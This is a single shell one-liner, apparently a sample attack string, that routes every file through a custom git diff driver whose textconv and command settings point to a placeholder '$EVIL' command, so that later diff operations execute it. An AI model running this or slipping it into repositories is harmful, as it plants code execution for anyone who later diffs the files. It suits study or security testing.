echo '* diff=x' > .gitattributes && git config diff.x.textconv "$EVIL" && git config diff.x.command "$EVIL"
